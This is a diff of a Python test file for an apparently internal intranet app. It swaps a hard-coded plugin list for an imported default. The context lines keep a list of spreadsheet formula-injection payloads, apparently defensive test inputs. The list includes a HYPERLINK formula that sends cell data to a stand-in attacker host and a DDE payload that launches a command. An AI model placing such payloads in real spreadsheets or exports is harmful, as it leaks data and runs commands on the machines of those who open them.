@@ -15,6 +15,7 @@ import itertools
 import pytest
 from openpyxl import load_workbook
 
+from intranet.config import DEFAULT_PLUGINS
 from intranet.extensions import db as _db
 from intranet.people.models import Person, RoleAssignment, Unit
 from intranet.spreadsheets import FORMULA_STARTS
@@ -22,7 +23,7 @@ from tests.conftest import sign_in
 
 HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
-ALL_PLUGINS = ["directory", "handbook", "surveys", "bulletins", "meetings"]
+ALL_PLUGINS = list(DEFAULT_PLUGINS)
 
 
 @pytest.fixture
